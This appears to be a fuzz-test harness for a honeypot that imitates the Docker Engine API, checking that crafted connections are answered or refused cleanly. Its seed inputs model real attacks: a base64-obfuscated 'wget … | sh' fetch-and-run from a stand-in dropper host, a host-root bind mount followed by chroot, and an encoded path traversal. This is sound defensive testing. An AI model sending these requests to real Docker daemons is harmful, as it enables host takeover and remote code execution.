"""The honeypot's Docker Engine API: one connection's bytes through `Honeypot._connection`
(request reader, limits, the FakeDaemon's answers, recording into the write-behind queue).

Contract: every exchange is answered or refused and the connection ends; the handler's
catch-all ("honeypot connection from … failed", logged) never fires: a request that reaches it
is neither answered nor recorded. The store is a stand-in that is never written: the
write-behind task is not started, so rows are not part of this target (tests/honeypot has them).
"""

from __future__ import annotations

import asyncio
import json
import logging
import types
from collections.abc import Iterator

import sqlalchemy
from fuzz_harness import check

from detonate.honeypot.server import Honeypot, HoneypotSettings

TIME_BOUND = 5.0
SETTINGS = HoneypotSettings(max_body_bytes=64 * 1024, request_seconds=2.0, idle_seconds=1.0)
_LOOP = asyncio.new_event_loop()
_STORE = types.SimpleNamespace(engine=sqlalchemy.create_engine("sqlite://"))  # never used


class _Failures(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


_LOG = logging.getLogger("detonate.honeypot")


class _Writer:
    def __init__(self) -> None:
        self.sent = bytearray()

    def write(self, data: bytes) -> None:
        self.sent += data

    async def drain(self) -> None:
        pass

    def close(self) -> None:
        pass

    def get_extra_info(self, name: str) -> object:
        return {"peername": ("198.51.100.7", 40001), "sockname": ("127.0.0.1", 2375)}.get(name)


def _request(method: str, path: str, body: object = None) -> bytes:
    data = b"" if body is None else json.dumps(body).encode()
    head = f"{method} {path} HTTP/1.1\r\nHost: 203.0.113.5:2375\r\nUser-Agent: curl/7.88.1\r\n"
    return head.encode() + f"Content-Length: {len(data)}\r\n\r\n".encode() + data


def seeds() -> Iterator[bytes]:
    command = ["sh", "-c", "echo d2dldCAtcU8tIGh0dHA6Ly9kcm9wcGVyLnRlc3QveC5zaCB8IHNo | base64 -d"]
    yield _request("GET", "/_ping") + _request("GET", "/v1.41/version")
    yield (
        _request("POST", "/v1.41/images/create?fromImage=alpine&tag=3.19")
        + _request(
            "POST",
            "/v1.41/containers/create?name=x",
            {"Image": "alpine:3.19", "Cmd": command, "HostConfig": {"Binds": ["/:/host"]}},
        )
        + _request("POST", "/v1.41/containers/x/start")
        + _request("POST", "/v1.41/containers/x/exec", {"Cmd": ["chroot", "/host", "id"]})
    )
    yield (
        b"POST /v1.41/containers/create HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"4\r\n{bad\r\n0\r\n\r\n"
    )
    yield _request("GET", "/v1.41/containers/%2e%2e%2f/json") + _request("DELETE", "/v1.41/x")


def fuzz(data: bytes) -> None:
    honeypot = Honeypot(_STORE, SETTINGS)  # type: ignore[arg-type]
    writer = _Writer()

    async def run() -> None:
        reader = asyncio.StreamReader()
        reader.feed_data(data)
        reader.feed_eof()
        await honeypot._connection(reader, writer)  # type: ignore[arg-type]

    failures = _Failures()
    _LOG.addHandler(failures)  # only while this input runs: the test suite shares the logger
    try:
        _LOOP.run_until_complete(run())
    finally:
        _LOG.removeHandler(failures)
    failed = [r.getMessage() + " " + repr(r.exc_info and r.exc_info[1]) for r in failures.records]
    check(not failed, f"the connection handler's catch-all fired: {failed}")
    check(honeypot.connections == 0, "the connection was not counted as ended")
    check(not writer.sent or writer.sent.startswith(b"HTTP/1.1 "), f"answer {writer.sent[:40]!r}")
